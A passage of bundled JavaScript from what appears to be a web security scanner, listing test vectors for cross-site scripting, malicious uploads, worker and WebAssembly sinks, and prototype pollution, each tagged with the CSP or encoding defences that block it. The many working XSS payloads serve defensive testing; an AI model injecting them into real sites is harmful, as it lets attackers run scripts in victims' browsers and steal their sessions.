        `{"__proto__":{"frame":"${prototype_pollution_IMG}"}}`,
        prototype_pollution_BY_MARKUP,
    ],
    [
        'F21',
        '__proto__ in JSON that is merged, read as an expression',
        'pollution:merge',
        '{"__proto__":{"when":"{run}"}}',
        ['trusted-types', 'no-unsafe-eval'],
    ],
];
const PROTOTYPE_POLLUTION = prototype_pollution_ROWS.map(([id, idea, place, payload, blockedBy]) => ({
    id,
    class: 'prototype-pollution',
    idea,
    place,
    payload,
    proof: 'page',
    blockedBy,
    references: prototype_pollution_REFERENCES,
    ...(id === 'F07' ? { foreignFiles: [{ name: 'script.js', type: 'text/javascript', text: '{run}' }] } : {}),
}));

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/reflected-contexts.js
const reflected_contexts_REFERENCES = [
    'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html#output-encoding',
    'https://html.spec.whatwg.org/multipage/parsing.html',
];
const BY_SCRIPTS = ['encoding', 'script-src'];
const BY_ADDRESS = ['encoding', 'script-src', 'trusted-types'];
const BY_ENCODING = ['encoding'];
const reflected_contexts_ROWS = [
    ['R11', 'out of a quoted attribute, into a handler', 'attribute', '" autofocus onfocus={run} x="'],
    ['R12', 'out of a quoted attribute and its tag, into a script', 'attribute', '"><script>{run}</script>'],
    ['R13', 'a space in an attribute without quotes begins another attribute', 'unquoted', 'x autofocus onfocus={run}'],
    ['R14', 'out of a string in a script of the page', 'script-string', "';{run};'", BY_ENCODING],
    ['R15', 'out of a script of the page, into another one', 'script-string', '</script><script>{run}</script>'],
    [
        'R16',
        'an expression in a template literal of a script of the page',
        'script-template',
        '\u0024{{run}}',
        BY_ENCODING,
    ],
    ['R19', 'the address of a script of the page', 'script-address', '{foreign}script.js', BY_ENCODING],
    [
        'R20',
        'a data: URL as the address of a script of the page',
        'script-address',
        'data:text/javascript,{run}',
        BY_ENCODING,
    ],
    ['R21', 'out of a comment', 'comment', '--><script>{run}</script>'],
    ['R22', 'out of the title', 'title', '</title><script>{run}</script>'],
    ['R23', 'out of an area for text', 'textarea', '</textarea><script>{run}</script>'],
    ['R24', 'out of a block of JSON', 'json', '</script><script>{run}</script>'],
    ['R25', 'out of a string in an inline handler', 'handler', "');{run};('", BY_SCRIPTS, true],
    [
        'R26',
        'the same with the quote as an entity, which is decoded before the script is read',
        'handler',
        '&#39;);{run};(&#39;',
        BY_SCRIPTS,
        true,
    ],
    ['R27', 'out of a stylesheet of the page', 'style', '</style><script>{run}</script>'],
    ['R28', 'the name of a tag', 'tag-name', 'img src=x: onerror={run}'],
    ['R32', 'out of noscript, which is text where scripts run', 'noscript', '</noscript><img src=x: onerror={run}>'],
    ['R62', 'out of an attribute in single quotes', 'single-quoted', "' autofocus onfocus={run} x='"],
    ['R63', 'the address of a link of the page', 'link-address', 'javascript:{run}', BY_ADDRESS, true],
    ['R64', 'the address of a frame of the page', 'frame-address', 'javascript:{run}', BY_ADDRESS],
    [
        'R65',
        'a comment with a script in it, which swallows the end of the script of the page',
        'script-string',
        "'-{run}-'",
        BY_ENCODING,
    ],
    [
        'R66',
        'the end of a line in a one-line comment of a script of the page',
        'script-comment',
        '\u2028{run}//',
        BY_ENCODING,
    ],
    ['R67', 'out of the frame of an old element that is read as text', 'xmp', '</xmp><script>{run}</script>'],
    ['R68', 'out of the text of an option', 'option', '</option></select><img src=x: onerror={run}>'],
    ['R69', 'out of a stylesheet in an attribute', 'style-attribute', '" autofocus onfocus={run} tabindex=1 x="'],
];
const REFLECTED_CONTEXTS = reflected_contexts_ROWS.map(([id, idea, place, payload, blockedBy = BY_SCRIPTS, click]) => ({
    id,
    class: 'reflected',
    idea,
    place,
    payload,
    proof: 'page',
    blockedBy,
    references: reflected_contexts_REFERENCES,
    ...(click === undefined ? {} : { click }),
    ...(place === 'script-address'
        ? { foreignFiles: [{ name: 'script.js', type: 'text/javascript', text: '{run}' }] }
        : {}),
}));

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/reflected-markup.js
const reflected_markup_REFERENCES = [
    'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
    'https://www.w3.org/TR/CSP3/#directive-script-src',
];
const reflected_markup_BY_SCRIPTS = ['encoding', 'script-src'];
const ADDRESS = ['trusted-types'];
const STYLE = ['style-src'];
const FORM = ['trusted-types', 'form-action'];
const UNATTENDED = [
    ['R01', 'a plain script element in the text of the page', '<script>{run}</script>'],
    ['R02', 'an image that fails, and its error handler', '<img src=x: onerror={run}>'],
    ['R03', 'the load handler of an SVG element', '<svg onload={run}>'],
    ['R04', 'details that are open from the start, and their toggle handler', '<details open ontoggle={run}>x</details>'],
    ['R05', 'an input that takes the focus by itself, and its focus handler', '<input autofocus onfocus={run}>'],
    [
        'R06',
        'a CSS animation that begins, and its handler',
        '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart={run}>x</b>',
        STYLE,
    ],
    [
        'R07',
        'a document in the srcdoc of a frame, which has the origin of the page',
        '<iframe srcdoc="&lt;script>{run}&lt;/script>"></iframe>',
    ],
    ['R08', 'a frame whose address is a javascript: URL', '<iframe src="javascript:{run}"></iframe>', ADDRESS],
    ['R09', 'a script element of the SVG namespace', '<svg><script>{run}</script></svg>'],
    ['R10', 'a script in a text integration point of MathML', '<math><mtext><script>{run}</script></mtext></math>'],
    ['R33', 'a second body tag, whose handler the parser gives to the body', '<body onload={run}>'],
    ['R34', 'the pageshow handler of a second body tag', '<body onpageshow={run}>'],
    ['R35', 'an SVG animation that begins', '<svg><animate attributeName=x dur=1s onbegin={run} /></svg>'],
    ['R36', 'an SVG set element that begins', '<svg><set attributeName=x dur=1s onbegin={run} /></svg>'],
    ['R37', 'a source of a video that fails', '<video><source src=x: onerror={run}></video>'],
    ['R38', 'a sound that fails', '<audio src=x: onerror={run}></audio>'],
    ['R40', 'an image button that fails', '<input type=image src={app}none onerror={run}>'],
    ['R41', 'a stylesheet that fails to load', '<link rel=stylesheet href=x: onerror={run}>'],
    ['R42', 'the load handler of a style element', '<style onload={run}></style>', STYLE],
    ['R43', 'the load handler of a frame', '<iframe onload={run}></iframe>'],
    ['R44', 'an object that fails', '<object data={app}none onerror={run}></object>'],
    ['R45', 'an element of no known name that takes the focus by itself', '<x tabindex=1 autofocus onfocus={run}>x</x>'],
    ['R46', 'an area for text that takes the focus by itself', '<textarea autofocus onfocus={run}></textarea>'],
    [
        'R47',
        'a handler in a declarative shadow root',
        '<div><template shadowrootmode=open><img src=x: onerror={run}></template></div>',
    ],
    ['R48', 'an inline module', '<script type=module>{run}</script>'],
    ['R49', 'capital letters, slashes for spaces and no quotes', '<IMG/SRC="x:"/ONERROR={run}>'],
    ['R50', 'a tag that never ends, closed by the next one of the page', '<img src=x: onerror={run} '],
    [
        'R51',
        'HTML inside a foreign object of SVG',
        '<svg><foreignObject><img src=x: onerror={run}></foreignObject></svg>',
    ],
    ['R52', 'an image of SVG that fails', '<svg><image href=x: onerror={run} /></svg>'],
    [
        'R53',
        'a CSS animation that ends',
        '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationend={run}>x</b>',
        STYLE,
    ],
    [
        'R54',
        'the handler of content-visibility, which the browser sets by itself',
        '<b style="display:block;content-visibility:auto" oncontentvisibilityautostatechange={run}>x</b>',
        STYLE,
    ],
    ['R55', 'the first bytes of a video, and their handler', '<video src="{app}x.webm" onloadstart={run}></video>'],
];
const CLICKED = [
    ['R17', 'a link to a javascript: URL', '<a id=hit href="javascript:{run}">x</a>', ADDRESS],
    [
        'R18',
        'a javascript: URL with white space inside its scheme',
        '<a id=hit href="java&#10;script:{run}">x</a>',
        ADDRESS,
    ],
    [
        'R29',
        'a popover that opens, and its handler',
        '<button id=hit popovertarget=p>x</button><div id=p popover onbeforetoggle={run}>x</div>',
    ],
    [
        'R31',
        'a form that is sent to a javascript: URL',
        '<form action="javascript:{run}"><button id=hit>x</button></form>',
        FORM,
    ],
    [
        'R56',
        'a button that sends its form elsewhere',
        '<form><button id=hit formaction="javascript:{run}">x</button></form>',
        FORM,
    ],
    [
        'R57',
        'a link of SVG to a javascript: URL',
        '<svg><a href="javascript:{run}"><text id=hit y=20>x</text></a></svg>',
        ADDRESS,
    ],
    [
        'R58',
        'a control character before the scheme of a javascript: URL',
        '<a id=hit href="&#1;javascript:{run}">x</a>',
        ADDRESS,
    ],
    [
        'R59',
        'a label that clicks what it belongs to',
        '<label id=hit for=c>x</label><input id=c type=checkbox onclick={run}>',
    ],
];
const DEAD = [
    ['R39', 'the start handler of a marquee', '<marquee onstart={run}>x</marquee>', 'Chromium 153'],
    [
        'R30',
        'an object whose document is a javascript: URL',
        '<object data="javascript:{run}"></object>',
        'Chromium 153 and 156',
    ],
    [
        'R60',
        'a refresh to a javascript: URL',
        '<meta http-equiv=refresh content="0;url=javascript:{run}">',
        'Chromium 153',
    ],
    [
        'R61',
        'SVG that uses an element of a data: URL',
        '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg>&lt;image href=x: onerror={run} />&lt;/svg>#x" /></svg>',
        'Chromium 153',
    ],
];
const REFLECTED_MARKUP = [
    ...UNATTENDED.map(reflected_markup_vector),
    ...CLICKED.map((row) => ({ ...reflected_markup_vector(row), click: true })),
    ...DEAD.map(([id, idea, payload, dead]) => ({ ...reflected_markup_vector([id, idea, payload]), dead })),
];
function reflected_markup_vector([id, idea, payload, more = []]) {
    return {
        id,
        class: 'reflected',
        idea,
        place: 'text',
        payload,
        proof: 'page',
        blockedBy: [...reflected_markup_BY_SCRIPTS, ...more],
        references: reflected_markup_REFERENCES,
    };
}

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/uploads.js
const uploads_REFERENCES = [
    'https://cheatsheetseries.owasp.org/cheatsheets/File_Upload_Cheat_Sheet.html',
    'https://mimesniff.spec.whatwg.org/',
];
const HTML = '<!doctype html><title>x</title><script>{run}</script>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>{run}</script></svg>';
const XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><script>{run}</script></html>';
const uploads_ROWS = [
    [
        'C11',
        'a frame with a page that somebody uploaded',
        { name: 'a.html', type: 'text/html', text: HTML },
        '<iframe src="{app}up/a.html"></iframe>',
        { class: 'csp-bypass', blockedBy: ['encoding', 'upload-policy', 'frame-src'] },
    ],
    [
        'C12',
        'an object with an SVG that somebody uploaded',
        { name: 'a.svg', type: 'image/svg+xml', text: SVG },
        '<object data="{app}up/a.svg"></object>',
        { class: 'csp-bypass', blockedBy: ['encoding', 'upload-policy', 'object-src'] },
    ],
    ['C13', 'a link to an SVG that somebody uploaded', { name: 'a.svg', type: 'image/svg+xml', text: SVG }],
    [
        'C14',
        'a link to an upload without a type, which the browser takes for a page',
        { name: 'a', type: '', text: HTML },
        undefined,
        { blockedBy: ['upload-policy', 'nosniff'] },
    ],
    ['C29', 'a link to a page that somebody uploaded', { name: 'a.html', type: 'text/html', text: HTML }],
    ['C30', 'a link to XHTML that somebody uploaded', { name: 'a.xhtml', type: 'application/xhtml+xml', text: XHTML }],
    ['C31', 'a link to XML with an element of XHTML in it', { name: 'a.xml', type: 'text/xml', text: XHTML }],
    [
        'C32',
        'a frame that may run scripts and keeps its origin, so that its sandbox is none',
        { name: 'a.html', type: 'text/html', text: '<script>parent.{run}</script>' },
        '<iframe sandbox="allow-scripts allow-same-origin" src="{app}up/a.html"></iframe>',
        { class: 'csp-bypass', blockedBy: ['encoding', 'upload-policy', 'frame-src'] },
    ],
    [
        'C33',
        'an embedded SVG that somebody uploaded',
        { name: 'a.svg', type: 'image/svg+xml', text: SVG },
        '<embed src="{app}up/a.svg">',
        { class: 'csp-bypass', blockedBy: ['encoding', 'upload-policy', 'object-src'] },
    ],
    [
        'C34',
        'a feed that somebody uploaded, with an element of XHTML in it',
        { name: 'a.rss', type: 'application/rss+xml', text: `<rss>${XHTML}</rss>` },
        undefined,
        { dead: 'Chromium 153' },
    ],
    [
        'C35',
        'an image that is a script',
        { name: 'a.png', type: 'image/png', text: '{run}' },
        '<script src="{app}up/a.png"></script>',
        { class: 'csp-bypass', blockedBy: ['encoding', 'script-src'], dead: 'Chromium 153: the browser runs no images' },
    ],
];
const UPLOADS = uploads_ROWS.map(([id, idea, file, payload, more = {}]) => ({
    id,
    class: 'upload',
    idea,
    place: 'text',
    payload: payload ?? '',
    proof: 'page',
    blockedBy: payload === undefined ? ['upload-policy'] : ['encoding', 'upload-policy'],
    references: uploads_REFERENCES,
    uploads: [file],
    ...(payload === undefined ? { start: { upload: file.name } } : {}),
    ...more,
}));

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/workers.js
const WORKERS = 'https://www.w3.org/TR/CSP3/#directive-worker-src';
const WASM = 'https://www.w3.org/TR/CSP3/#directive-script-src';
const UPLOAD = { name: 'a.js', type: 'text/javascript', text: '{run}' };
const MODULE = 'new Uint8Array([0,97,115,109,1,0,0,0,1,5,1,96,0,1,127,3,2,1,0,7,5,1,1,102,0,0,10,6,1,4,0,65,42,11])';
const BY_WORKER = ['trusted-types', 'worker-src'];
const workers_BY_CODE = ['no-unsafe-eval'];
const workers_ROWS = [
    [
        'D18',
        'worker',
        'what is behind # becomes a worker, as a data: URL',
        'sink:worker',
        'data:text/javascript,{run}',
        BY_WORKER,
    ],
    ['D19', 'worker', 'what is behind # becomes a worker, as a blob', 'sink:worker-blob', '{run}', BY_WORKER],
    ['D56', 'worker', 'an upload becomes a worker', 'sink:worker', '{app}up/a.js', BY_WORKER, { uploads: [UPLOAD] }],
    [
        'D57',
        'worker',
        'what is behind # becomes a shared worker',
        'sink:shared-worker',
        'data:text/javascript,{run}',
        BY_WORKER,
    ],
    [
        'D58',
        'worker',
        'a worker loads a script from another origin',
        'sink:worker-import',
        '{foreign}script.js',
        ['trusted-types', 'worker-src', 'no-strict-dynamic'],
        { foreignFiles: [{ name: 'script.js', type: 'text/javascript', text: '{run}' }] },
    ],
    [
        'D59',
        'worker',
        'a worker evaluates what it is sent',
        'sink:worker-eval',
        '{run}',
        ['trusted-types', 'worker-src', 'no-unsafe-eval'],
    ],
    [
        'F08',
        'worker',
        'an upload becomes a service worker',
        'sink:service-worker',
        '{app}up/a.js',
        BY_WORKER,
        { uploads: [UPLOAD] },
    ],
    [
        'D60',
        'worker',
        'a module worker from an upload',
        'sink:module-worker',
        '{app}up/a.js',
        BY_WORKER,
        { uploads: [UPLOAD] },
    ],
    [
        'D21',
        'wasm',
        'WebAssembly is compiled and run',
        'own-script',
        `WebAssembly.instantiate(${MODULE}).then(({instance:i})=>i.exports.f()===42&&{run})`,
        workers_BY_CODE,
        { proof: 'page' },
    ],
    [
        'D61',
        'wasm',
        'WebAssembly is compiled at once',
        'own-script',
        `new WebAssembly.Instance(new WebAssembly.Module(${MODULE})).exports.f()===42&&{run}`,
        workers_BY_CODE,
        { proof: 'page' },
    ],
    [
        'D62',
        'wasm',
        'WebAssembly is compiled while it is fetched',
        'own-script',
        `WebAssembly.instantiateStreaming(new Response(${MODULE},{headers:{'content-type':'application/wasm'}})).then(({instance:i})=>i.exports.f()===42&&{run})`,
        workers_BY_CODE,
        { proof: 'page' },
    ],
];
const WORKER_VECTORS = workers_ROWS.map(([id, of, idea, place, payload, blockedBy, more = {}]) => ({
    id,
    class: of,
    idea,
    place,
    payload,
    proof: 'worker',
    blockedBy,
    references: [of === 'wasm' ? WASM : WORKERS],
    ...more,
}));

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/index.js











const VECTORS = [
    ...REFLECTED_MARKUP,
    ...REFLECTED_CONTEXTS,
    ...DOM,
    ...MUTATION,
    ...POLICY_BYPASS,
    ...UPLOADS,
    ...WORKER_VECTORS,
    ...EXFILTRATION_MARKUP,
    ...EXFILTRATION_SCRIPT,
    ...FRAMING,
    ...PROTOTYPE_POLLUTION,
];


/***/ })

};
